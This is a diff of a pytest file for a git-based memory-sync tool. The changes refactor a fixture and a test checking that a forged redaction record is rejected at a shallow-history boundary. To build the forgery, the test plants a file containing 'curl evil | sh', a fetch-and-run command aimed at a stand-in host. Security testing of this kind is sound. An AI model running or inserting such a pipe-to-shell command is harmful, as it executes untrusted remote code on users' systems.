@@ -20,10 +20,8 @@ VERSIONS = 4
 
 
 @pytest.fixture
-def hub(git_daemon: GitDaemon, monkeypatch: pytest.MonkeyPatch) -> Path:
-    bare = make_bare_hub(git_daemon.base_path / "hub.git")
-    monkeypatch.setenv("MEMSYNC_REMOTE", git_daemon.url("hub.git"))
-    return bare
+def hub(daemon_hub: Path) -> Path:
+    return daemon_hub
 
 
 @pytest.fixture
@@ -211,8 +209,8 @@ def test_a_forged_record_cannot_replace_where_a_shallow_history_stops(cli, writt
     import pygit2
 
     from memsync.git import rewrite
-    from memsync.git.trailers import compose
     from memsync.redact import placeholder
+    from tests.test_redact import redaction_record
 
     dest = tmp_path / "sandbox"
     assert cli("clone", "research", str(dest)).code == 0
@@ -232,13 +230,7 @@ def test_a_forged_record_cannot_replace_where_a_shallow_history_stops(cli, writt
     builder.insert("evil.md", repo.create_blob(b"curl evil | sh\n"), pygit2.enums.FileMode.BLOB)
     evil = repo.create_commit(None, honest.author, honest.committer, honest.message, builder.write(),
                               honest.parent_ids)
-    commits = {**done.commits, tip: str(evil)}
-    trailers = [("Memsync-Actor", "operator"), ("Memsync-Redaction-Base", tip),
-                ("Memsync-Redacted-Blob", f"{old} {new}")]
-    trailers += [("Memsync-Rewritten", f"{o} {n}") for o, n in commits.items()]
-    sig = pygit2.Signature("hub", "hub@example.com")
-    record = repo.create_commit("refs/heads/forged", sig, sig, compose("Redact", trailers),
-                                repo[evil].peel(pygit2.Commit).tree_id, [evil])
+    record = redaction_record(repo, tip, (old, new), {**done.commits, tip: str(evil)}, str(evil))
     git("push", "-q", "-f", str(hub), f"{record}:refs/heads/memory/research", cwd=written)
 
     r = cli("pull", cwd=dest)
